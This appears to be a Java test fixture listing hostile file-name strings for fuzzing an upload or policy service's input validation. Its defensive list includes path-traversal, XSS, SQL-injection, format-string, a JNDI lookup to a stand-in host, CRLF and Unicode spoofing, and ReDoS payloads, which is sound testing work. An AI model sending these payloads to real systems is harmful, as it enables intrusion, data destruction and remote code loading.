package dev.valetkey.policy.testkit.given;

import java.util.List;

/** Texts that a client may send in a JSON string, chosen for what they have broken elsewhere. */
final class HostileText {

    /** A request's body is 64 KiB at most (docs/reference/http-api.md). */
    private static final int LONG = 60_000;

    static final List<String> NAMES = List.of(
            "",
            " ",
            ".",
            "..",
            "...",
            "/",
            "\\",
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2fetc%2fpasswd",
            "/dev/null",
            "C:\\boot.ini",
            "file:///etc/hosts",
            "a/b/c.png",
            "CON",
            "nul.txt",
            "aux.tar.gz",
            ".htaccess",
            ".png",
            "png",
            "picture.",
            "picture.png ",
            "picture.png.",
            "picture.PNG",
            "picture.png.exe",
            "invoice.exe.pdf",
            "a.b.c.d.e.f.g",
            // Right-to-left override: shown as invoiceexe.pdf.
            "invoice\u202efdp.exe",
            "\u2066hidden\u2069.png",
            "zero\u200bwidth.png",
            "nul\u0000byte.png",
            "line\nbreak.png",
            "carriage\r\nreturn: injected.png",
            "escape\u001b[2Jclear.png",
            "line\u2028separator.png",
            "lone\ud800surrogate.png",
            "\udc00.png",
            "\ufffe\uffff.png",
            // One letter, composed and decomposed.
            "caf\u00e9.png",
            "cafe\u0301.png",
            "e" + "\u0301".repeat(500) + ".png",
            "\ud83d\udc69\u200d\ud83d\udc67.png",
            // Lower-cased, it has more letters than before.
            "\u0130STANBUL.png",
            "\u6587\u4ef6.png",
            "<script>alert(1)</script>.png",
            "'; DROP TABLE uploads; --.png",
            "{\"a\": \"b\"}.png",
            "%s%n%d.png",
            "${jndi:ldap://example.invalid/a}.png",
            "{{7*7}}.png",
            "a".repeat(255) + ".png",
            "a".repeat(LONG),
            // Text that causes catastrophic backtracking in regular expressions with nested repetition.
            "a".repeat(5_000) + "!",
            ".a".repeat(5_000),
            " ".repeat(5_000) + "x",
            "x@" + "x.".repeat(5_000));

    private HostileText() {}
}
